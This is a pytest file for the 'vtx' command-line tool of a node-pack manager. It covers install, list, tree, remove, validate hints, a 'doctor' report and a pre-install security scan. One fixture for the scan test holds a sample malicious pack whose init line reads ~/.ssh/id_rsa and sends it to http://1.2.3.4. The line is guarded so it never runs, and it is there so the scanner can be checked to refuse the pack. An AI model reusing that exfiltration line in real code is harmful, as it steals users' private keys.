"""The vtx command, and what `vortex validate` says of a node from a pack that is not installed."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from vortex_jupyter.packages.cli import main

from .conftest import comfy_pack


def test_install_list_tree_remove(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["install", str(comfy_pack(tmp_path / "a", "old-six", "six<1.16"))]) == 0
    out = capsys.readouterr().out
    assert "installed old-six 1.0.0 into env old-six: 1 node types" in out and "WEB_DIRECTORY" in out
    assert main(["list"]) == 0
    assert "old-six 1.0.0  env=old-six" in capsys.readouterr().out
    assert main(["tree"]) == 0
    tree = capsys.readouterr().out.splitlines()
    assert tree[0].startswith("env old-six") and tree[1:] == ["  pack old-six 1.0.0", "    six==1.15.0"]
    assert main(["tree", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["old-six"]["packages"] == {"six": "1.15.0"}
    assert main(["lock"]) == 0 and main(["sync"]) == 0
    assert main(["remove", "old-six"]) == 0
    capsys.readouterr()
    assert main(["list"]) == 0 and "no packs installed" in capsys.readouterr().out


def test_errors_exit_2_with_the_ve_code(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["install", str(tmp_path)]) == 2
    assert "[VE-900]" in capsys.readouterr().err
    assert main(["remove", "nope"]) == 2
    assert "no pack named 'nope'" in capsys.readouterr().err


def test_suggest_writes_a_manifest(tmp_path: Path) -> None:
    wf = tmp_path / "wf.json"
    wf.write_text(json.dumps({"extra": {"node_versions": {"comfy-core": "1", "my-pack": "1.2.0"}}, "nodes": []}))
    assert main(["suggest", str(wf), "-o", str(tmp_path / "vortex.toml")]) == 0
    assert '[packs."my-pack"]' in (tmp_path / "vortex.toml").read_text()


def test_validate_says_which_pack_a_missing_node_type_comes_from(tmp_path: Path) -> None:
    import vortex_jupyter as vx

    node = {"id": 1, "type": "FooNode", "properties": {"cnr_id": "foo-pack", "ver": "1.2.0"},
            "widgets_values": [], "inputs": [], "outputs": [], "pos": [0, 0], "size": [100, 100],
            "mode": 0, "order": 0, "flags": {}}
    wf = tmp_path / "wf.json"
    wf.write_text(json.dumps({"nodes": [node], "links": [], "version": 0.4}))
    [problem] = vx.load(str(wf)).problems()
    assert problem.code == "VE-101" and "pack 'foo-pack'" in problem.message
    assert "vtx install" in problem.hint and "@1.2.0 of foo-pack" in problem.hint
    # a pack outside the registry is recorded by its GitHub owner/repo (aux_id): the hint is the command
    node["properties"] = {"aux_id": "someone/foo-nodes", "ver": "4b1c2d3"}
    wf.write_text(json.dumps({"nodes": [node], "links": [], "version": 0.4}))
    [problem] = vx.load(str(wf)).problems()
    assert "`vtx install git+https://github.com/someone/foo-nodes@4b1c2d3`" in problem.hint


def test_install_scans_first_refuses_a_hostile_pack_and_allow_accepts_it(tmp_path: Path,
                                                                         capsys: pytest.CaptureFixture[str]) -> None:
    """``vtx install`` runs the scanner before anything is installed: a pack that exfiltrates a
    key at import is refused with VE-910 naming the rule and the ``--allow`` that accepts it;
    with that flag it installs, and the report is stored beside the locks."""
    import importlib.util

    if importlib.util.find_spec("guarddog") is None:  # (importing guarddog would try the network)
        pytest.skip("guarddog is not installed")
    from vortex_jupyter.packages.envs import PackStore

    from .conftest import write_pack

    init = ("import os, urllib.request\n"
            "if os.environ.get('VX_TEST_NEVER_SET'):  # static scanners see it; the import never runs it\n"
            "    urllib.request.urlopen('http://1.2.3.4/k?' + open(os.path.expanduser('~/.ssh/id_rsa')).read())\n"
            "NODE_CLASS_MAPPINGS = {}\n")
    pack = write_pack(tmp_path / "evil", "evil-pack", [], init)
    assert main(["install", str(pack)]) == 2
    err = capsys.readouterr().err
    assert "[VE-910]" in err and "threat-network-exfiltration" in err and "--allow" in err
    assert main(["list"]) == 0 and "no packs installed" in capsys.readouterr().out  # nothing was installed
    rules = sorted({r for r in ("threat-network-exfiltration", "threat-filesystem-read") if r in err})
    assert main(["install", str(pack), *[a for r in rules for a in ("--allow", r)]]) == 0
    stored = json.loads(PackStore.default().scan_path("evil-pack").read_text())
    assert any(f["rule"] == "threat-network-exfiltration" for f in stored["findings"])
    assert main(["scan", str(pack)]) == 1  # `vtx scan` is the same scanner, without installing


def test_doctor_reports_what_this_machine_supports(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """``vtx doctor`` says what the sandbox can use here (the same check a strict pool makes),
    where uv is, which scanners are installed and whether the packs folder is writable."""
    from vortex_jupyter.workers import sandbox

    assert main(["doctor", "--json"]) == 0
    report = json.loads(capsys.readouterr().out)
    caps = sandbox.capabilities()
    assert report["sandbox"]["landlock_abi"] == caps["landlock_abi"]
    assert report["sandbox"]["strict_possible"] == bool(caps["landlock_abi"] and caps["seccomp"])
    assert report["uv"]["path"] and report["uv"]["version"].startswith("uv ")
    assert set(report["scanners"]) == {"bandit", "guarddog", "picklescan", "modelscan"}
    assert report["sandbox"]["packs_setting"] == "auto"
    assert report["sandbox"]["packs_sandboxed"] == report["sandbox"]["strict_possible"]
    assert main(["doctor"]) == 0
    text = capsys.readouterr().out
    assert "VORTEX_SANDBOX=strict" in text and "packs folder" in text
    assert "node packs' workers (VORTEX_PACK_SANDBOX=auto): sandboxed" in text
    # an installed pack whose environment was deleted: doctor says so and how to fix it
    from vortex_jupyter.packages.envs import PackStore

    store = PackStore.default()
    store.install(str(comfy_pack(tmp_path / "p", "old-six", "six<1.16")))
    import shutil

    shutil.rmtree(store.root / "envs" / "old-six")
    assert main(["doctor"]) == 1
    text = capsys.readouterr().out
    assert "pack old-six: [VE-900] the environment 'old-six' of pack 'old-six' is missing" in text
    assert "`vtx sync`" in text
    monkeypatch.setenv("VORTEX_PACKS_DIR", str(tmp_path / "packs"))
    monkeypatch.setattr("os.access", lambda path, mode: False)  # a folder the user may not write (CI is root)
    assert main(["doctor"]) == 1 and "NOT writable" in capsys.readouterr().out
